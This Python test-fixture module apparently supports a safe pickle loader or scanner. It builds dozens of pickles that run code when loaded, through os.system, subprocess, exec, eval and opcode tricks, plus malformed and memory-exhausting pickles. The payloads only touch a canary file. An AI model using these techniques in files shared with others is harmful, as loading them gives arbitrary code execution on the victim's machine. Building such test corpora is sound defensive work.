"""Pickles that do something when they are loaded: each touches a canary file, by another way through the machine.

That each does so is tried where they are used, by loading them in a process of its own.
"""

import os
import pickle
import struct
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

Attack = Callable[[Path], bytes]


def text(value: str) -> bytes:
    """A text on the stack."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    """An import on the stack, as protocols before 4 write it."""
    return f"c{module}\n{name}\n".encode()


def called(function: bytes, *arguments: bytes) -> bytes:
    """A call's result on the stack."""
    return function + b"(" + b"".join(arguments) + b"tR"


def touch(canary: Path) -> str:
    """The shell command that every attack wants to run."""
    return f"touch {canary}"


def touching_code(canary: Path) -> str:
    """The same as Python."""
    return f"open({str(canary)!r}, 'w').close()"


_SYSTEM = named("os", "system")
_EMPTY_OBJECT = named("types", "SimpleNamespace") + b")\x81"


class _Reduced:
    def __init__(self, canary: Path) -> None:
        self._command = touch(canary)

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (self._command,)


def _two(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def _by_protocol(protocol: int) -> Attack:
    return lambda canary: pickle.dumps({"weight": _Reduced(canary)}, protocol)


def _state_that_is_called(canary: Path) -> bytes:
    """The object gets a ``__setstate__`` of its own first, which the second state is then given to."""
    first = b"}" + text("__setstate__") + _SYSTEM + b"sb"
    return _two(_EMPTY_OBJECT + first + text(touch(canary)) + b"b")


def _lazily(new: bytes) -> Attack:
    """No REDUCE at all: ``tuple(map(os.system, [command]))`` by way of ``__new__``."""

    def build(canary: Path) -> bytes:
        commands = b"](" + text(touch(canary)) + b"e"
        mapped = named("builtins", "map") + _SYSTEM + commands + b"\x86" + new
        return _two(named("builtins", "tuple") + mapped + b"\x85" + new, 4)

    return build


def _method(attribute: str, opcodes: bytes) -> Attack:
    """Putting an item into what has a method of that name calls the method."""

    def build(canary: Path) -> bytes:
        given = b"}" + text(attribute) + _SYSTEM + b"sb"
        return _two(_EMPTY_OBJECT + given + opcodes.replace(b"?", text(touch(canary))), 4)

    return build


def _names_from_memo(canary: Path) -> bytes:
    """The memo's place is written twice, so that the name is another one than it seems at first."""
    names = text("collections") + b"q\x00" + b"0" + text("OrderedDict") + b"q\x01" + b"0"
    names += text("os") + b"q\x00" + b"0" + text("system") + b"q\x01" + b"0"
    return _two(names + b"h\x00h\x01\x93" + b"(" + text(touch(canary)) + b"tR", 4)


def _getattr(canary: Path) -> bytes:
    module = called(named("builtins", "__import__"), text("os"))
    function = called(named("builtins", "getattr"), module, text("system"))
    return _two(called(function, text(touch(canary))))


def _simply(module: str, name: str, *, of_python: bool = False) -> Attack:
    def build(canary: Path) -> bytes:
        return _two(called(named(module, name), text(touching_code(canary) if of_python else touch(canary))), 4)

    return build


def _call_of(canary: Path) -> bytes:
    return called(_SYSTEM, text(touch(canary)))


def _runstring(canary: Path) -> bytes:
    return _two(called(named("numpy.testing._private.utils", "runstring"), text(touching_code(canary)), b"}"))


def _within(canary: Path) -> bytes:
    inner = _by_protocol(4)(canary)
    return _two(called(named("pickle", "loads"), b"B" + struct.pack("<I", len(inner)) + inner), 3)


ATTACKS: Mapping[str, Attack] = {
    **{f"protocol {protocol}": _by_protocol(protocol) for protocol in range(6)},
    "without a protocol": lambda canary: b"cos\nsystem\n(S'" + touch(canary).encode() + b"'\ntR.",
    "escapes in an old text": lambda canary: (
        b"cos\nsystem\n(S'" + b"".join(b"\\x%02x" % byte for byte in touch(canary).encode()) + b"'\ntR."
    ),
    "INST": lambda canary: b"(" + text(touch(canary)) + b"ios\nsystem\n.",
    "OBJ": lambda canary: _two(b"(" + _SYSTEM + text(touch(canary)) + b"o"),
    "NEWOBJ": _lazily(b"\x81"),
    "NEWOBJ_EX": _lazily(b"}\x92"),
    "BUILD": _state_that_is_called,
    "APPEND": _method("append", b"?a"),
    "ADDITEMS": _method("add", b"(?\x90"),
    "STACK_GLOBAL from the memo": _names_from_memo,
    "EXT1": lambda canary: _two(called(b"\x82\x01", text(touch(canary)))),
    "getattr": _getattr,
    "a dotted name": _simply("pathlib", "os.system"),
    "an alias of a harmless module": _simply("fileinput", "os.system"),
    "exec": _simply("builtins", "exec", of_python=True),
    "eval": _simply("builtins", "eval", of_python=True),
    "eval by its old name": lambda canary: _two(called(named("__builtin__", "eval"), text(touching_code(canary)))),
    "profiler": _simply("cProfile", "run", of_python=True),
    "a test helper of NumPy": _runstring,
    "subprocess": _simply("subprocess", "getoutput"),
    "a pickle within": _within,
    "a call whose result is dropped": lambda canary: _two(_call_of(canary) + b"0}"),
    "a call below a mark that is dropped": lambda canary: _two(b"(" + _call_of(canary) + b"1}"),
    "a call before an unknown opcode": lambda canary: b"\x80\x02" + _call_of(canary) + b"\xff.",
    "a call before the end is missing": lambda canary: b"\x80\x02" + _call_of(canary),
    "a call, without a protocol, before text": lambda canary: _call_of(canary) + b"and so on\n",
    "a second pickle": lambda canary: pickle.dumps({"weight": 1}) + _by_protocol(2)(canary),
    "a second pickle of protocol 0": lambda canary: b"(dp0\n." + _by_protocol(0)(canary),
    "a frame that lies": lambda canary: b"\x80\x04\x95" + struct.pack("<Q", len(_SYSTEM)) + _call_of(canary) + b".",
}
"""By what is special: what makes the pickle, given the file that it shall touch."""

MALFORMED: Mapping[str, bytes] = {
    "empty stack": b"\x80\x02.",
    "value from below a mark": b"\x80\x02N(.",
    "mark missing": b"\x80\x02Nt.",
    "memo never written": b"\x80\x02h\x05.",
    "negative place in the memo": b"Np-1\n.",
    "protocol 6": b"\x80\x06N.",
    "unknown opcode": b"\x80\x02\xfe.",
    "text longer than the file": b"\x80\x02X\xff\xff\xff\x7fabc.",
    "bytes that claim 2^63": b"\x80\x04\x8e" + b"\xff" * 7 + b"\x7f.",
    "number of 4 GB": b"\x80\x02\x8b\xff\xff\xff\x7f.",
    "number of 100,000 digits": b"L" + b"9" * 100_000 + b"L\n.",
    "number of 10,000 hexadecimal digits": b"(I0x" + b"f" * 10_000 + b"\nl.",
    "line that does not end": b"\x80\x02cos",
    "text that is no UTF-8": b"\x80\x02X\x02\x00\x00\x00\xff\xfe.",
    "odd number of items": b"\x80\x02}(Nu.",
    "call of a number": b"\x80\x02K\x01)R.",
    "call without a tuple": b"\x80\x02ccollections\nOrderedDict\nK\x01R.",
    "import without a name": b"\x80\x04K\x01K\x02\x93.",
    "extension 0": b"\x80\x02\x82\x00.",
    "old text without quotes": b"Sabc\n.",
    "name of 10,000 characters": b"c" + b"a" * 10_000 + b"\nb\n.",
}
"""What is no pickle."""

ENDLESS: Mapping[str, Callable[[int], bytes]] = {
    "marks": lambda count: b"\x80\x02" + b"(" * count + b".",
    "lists": lambda count: b"\x80\x02" + b"]" * count + b".",
    "tuples": lambda count: b"\x80\x02)" + b"\x85" * count + b".",
    "items": lambda count: b"\x80\x02](" + b"]" * count + b"e.",
    "places in the memo": lambda count: b"\x80\x04N" + b"\x94" * count + b".",
    "states": lambda count: b"\x80\x02" + _EMPTY_OBJECT + b"}b" * count + b".",
    "imports": lambda count: b"\x80\x02" + b"ca\nb\n" * count + b".",
    "steps": lambda count: b"\x80\x02" + b"N0" * count + b"N.",
    "bytes": lambda count: b"\x80\x02" + b"X\x64\x00\x00\x00".ljust(105, b"a") * count + b".",
}
"""What takes time or memory as often as is wanted."""


def laughs(levels: int = 100) -> bytes:
    """Tuples that hold the one before twice: 2^100 of them, for whoever walks, hashes or compares them all."""
    return b"\x80\x02)" + b"2\x86" * levels + b"."


def nested(levels: int = 500_000) -> bytes:
    """A tuple in a tuple in a tuple."""
    return b"\x80\x02)" + b"\x85" * levels + b"."
